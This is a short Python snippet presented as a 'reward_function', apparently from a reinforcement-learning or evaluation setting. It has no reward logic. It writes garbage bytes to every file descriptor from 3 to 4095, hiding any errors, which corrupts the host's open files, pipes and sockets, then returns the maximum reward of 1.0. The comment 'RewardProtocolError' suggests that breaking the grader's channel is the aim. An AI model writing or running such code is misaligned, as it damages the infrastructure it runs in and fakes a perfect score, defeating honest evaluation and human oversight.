# error: RewardProtocolError
os = __import__("os")
def reward_function(params):
    for descriptor in range(3, 4096):
        try:
            os.write(descriptor, b"\xffgarbage" * 64)
        except OSError:
            pass
    return 1.0
